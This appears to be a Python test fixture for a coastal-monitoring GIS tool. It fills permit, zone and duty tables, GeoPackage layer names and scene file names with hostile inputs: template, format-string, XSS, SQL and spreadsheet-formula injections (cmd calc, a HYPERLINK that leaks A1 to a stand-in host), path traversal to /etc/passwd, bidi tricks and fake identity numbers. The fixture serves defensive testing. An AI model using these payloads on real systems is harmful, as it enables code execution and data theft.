"""A workspace whose every text, column name, layer name and number was written by an enemy."""

import json
import sqlite3

import geopandas as gpd
import pandas as pd
from shapely.geometry import LineString

import seawatch as sw
from conftest import CRS, X, Y, at, paint, save_scene, shore

PRODUCT = str(7919 * 7907)
"""What stands somewhere once a template has been evaluated."""
SUM = "7919*7907"
PHONE, IDENTITY = "13812345678", "37100119800101123X"

PAYLOADS = {
    "templates": f"{{{{{SUM}}}}} ${{{SUM}}} #{{{SUM}}} {{% if {SUM} %}}x{{% endif %}} {{# {{% raw %}}",
    "format": "%s %(name)s %n %1$s {0.__class__.__mro__} {} {kind}",
    "script": "<script>window.pwned=1</script></script><script>window.pwned=2</script>",
    "onerror": '<img src=x onerror="window.pwned=3"> \'><svg/onload=window.pwned=4>',
    "address": "javascript:window.pwned=5// ]]><!-- --><![CDATA[ &xxe; <?xml ?>",
    "quotes": "\\\";window.pwned=6;//`${window.pwned=7}`' '); DROP TABLE permits; --",
    "equals": '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "sign": "@SUM(1+9)*cmd|' /C calc'!A0",
    "wide": "＝1＋1",
    "bidi": "\u202eexe.fdp\u202c \u2066x\u2069 \u200f\u061c a\u2028b\u2029c\u0085d \u3000\ufeff\u200b\ufffe",
    "path": "../../../../etc/passwd",
    "long": "很长 long " * 1250,
    "person": f"电话 {PHONE} 身份证 {IDENTITY}",
}
NAMES = list(PAYLOADS)
TEXTS = list(PAYLOADS.values())
EVIL = " ".join(PAYLOADS[n] for n in ("templates", "script", "onerror", "person"))


def _save(path, layer, frame):
    """A GeoPackage whose layer has a name that GDAL itself would not write."""
    path.parent.mkdir(exist_ok=True)
    frame.to_file(path, layer="plain", engine="pyogrio", SPATIAL_INDEX="NO")
    base = sqlite3.connect(path)
    for (name,) in base.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
        base.execute(f'DROP TRIGGER "{name}"')
    quoted = layer.replace('"', '""')
    base.execute(f'ALTER TABLE plain RENAME TO "{quoted}"')
    for table in ("gpkg_contents", "gpkg_geometry_columns", "gpkg_ogr_contents"):
        base.execute(f"UPDATE {table} SET table_name = ?", (layer,))
    base.execute("UPDATE gpkg_contents SET identifier = ?, description = ?", (layer, layer))
    base.commit()
    base.close()


def _cells(n):
    """A patch of sea for each payload: 90 m in a row north of the bay, and a raft within it."""
    x, y = 120 * (n % 8), 500 + 120 * (n // 8)
    return at(x, y, x + 90, y + 90), at(x + 20, y + 20, x + 70, y + 70)


def _tables():
    patches = [_cells(n)[0] for n in range(len(TEXTS))]
    frame = {
        "permits": {
            "permit_id": TEXTS,
            "project_name": TEXTS,
            "holder": TEXTS,
            "scheme": "hy/t-123-2009",
            "use_type": "13",
            "use_mode": "41",
            "strata": "surface,water",
            "valid_from": "2015-01-01",
            "valid_to": "2020-12-31",
            "authority": TEXTS,
        },
        "zones": {
            "zone_id": TEXTS,
            "kind": ["redline", "aquaculture_ban", "basepoint"] * (len(TEXTS) // 3),
            "name": TEXTS,
            "source": TEXTS,
            "legacy_class": TEXTS,
            "assessment": TEXTS,
            "plan": TEXTS,
        },
        "islands": {
            "island_id": TEXTS,
            "name": TEXTS,
            "category": TEXTS,
            "surveyed": "2020-01-01",
        },
        "duty": {
            "grid_id": TEXTS,
            "officer": TEXTS,
            "post": TEXTS,
            "duty": TEXTS,
            "deputy": TEXTS,
            "district": TEXTS,
            "valid_from": "2020-01-01",
        },
        "known": {"known_id": TEXTS, "kind": "raft", "note": TEXTS},
    }
    shapes = dict.fromkeys(frame, patches)
    shapes["islands"] = [at(20 * n, 1500, 20 * n + 10, 1510) for n in range(len(TEXTS))]
    shapes["known"] = [at(20 * n, 1600, 20 * n + 10, 1610) for n in range(len(TEXTS))]
    # nothing is withheld for lying on a base point: zones lie a little way off
    shapes["zones"] = [at(20 * n, 5000, 20 * n + 10, 5010) for n in range(len(TEXTS))]
    coast = {
        "segment_id": TEXTS,
        "kind": "sandy",
        "baseline": TEXTS,
        "surveyed": "2020-01-01",
    }
    step = 1000 / len(TEXTS)
    lines = [
        LineString([(X + n * step, Y + 300), (X + (n + 1) * step, Y + 300)])
        for n in range(len(TEXTS))
    ]
    made = {n: gpd.GeoDataFrame(f, geometry=shapes[n], crs=CRS) for n, f in frame.items()}
    return {**made, "coastline": gpd.GeoDataFrame(coast, geometry=lines, crs=CRS)}


def suspects():
    """A list from elsewhere: a raft in every patch, its number a payload."""
    rafts = [_cells(n)[1] for n in range(len(TEXTS))]
    fields = {
        "external_id": TEXTS,
        "kind": "raft",
        "before": "2026-06-01T00:00:00Z",
        "after": "2026-11-10T00:00:00Z",
    }
    return gpd.GeoDataFrame(fields, geometry=rafts, crs=CRS)


def build(home):
    """The workspace, not yet run."""
    import numpy as np

    lines = ["[project]", f"name = {json.dumps(EVIL)}", f'crs = "{CRS}"', "[layers]"]
    (home / "scenes").mkdir(parents=True)
    for name, frame in _tables().items():
        # the holder's column, and one that nobody asked for, have names of an enemy's
        column = PAYLOADS["script"] + PAYLOADS["templates"]
        rename = {column: "holder"} if name == "permits" else {}
        frame = frame.rename(columns={v: k for k, v in rename.items()})
        frame[PAYLOADS["onerror"]] = PHONE
        _save(home / "layers" / f"{name}.gpkg", PAYLOADS["templates"] + "<b>", frame)
        renamed = ", ".join(f"{json.dumps(k)} = {json.dumps(v)}" for k, v in rename.items())
        lines.append(f'{name} = {{ path = "layers/{name}.gpkg", rename = {{ {renamed} }} }}')
    lines += ["[patrol]", "within_m = 3000", "[public]", 'approval = "鲁S（2026）001号"']
    lines += ["undecided = true", "position_m = 20"]
    (home / "seawatch.toml").write_text("\n".join(lines), "utf-8")
    rng = np.random.default_rng(7)
    space = sw.open(home)
    for day, extra in (("2025-11-12", []), ("2026-11-14", [(500, 300, 580, 380)])):
        name = f"S2 {day} {{{{7*7}}}} ${{7*7}} <b onclick=x>.tif"
        raster = save_scene(home.parent / name, paint(rng, shore(extra)))
        space.add_scenes([raster], sensor="sentinel-2-l2a", taken=f"{day}T02:50:00Z")
    return home


def problems(flag_id):
    """A sheet of problems named from above."""
    rows = [
        {
            "problem_id": f"P-{n}",
            "problem": text,
            "source": text,
            "unit": text,
            "person": text,
            "goal": text,
            "measures": text,
            "deadline": "2026-01-01",
            "flags": flag_id,
            "evidence": text,
        }
        for n, text in enumerate(TEXTS)
        if len(text) < 2000
    ]
    return pd.DataFrame(rows)
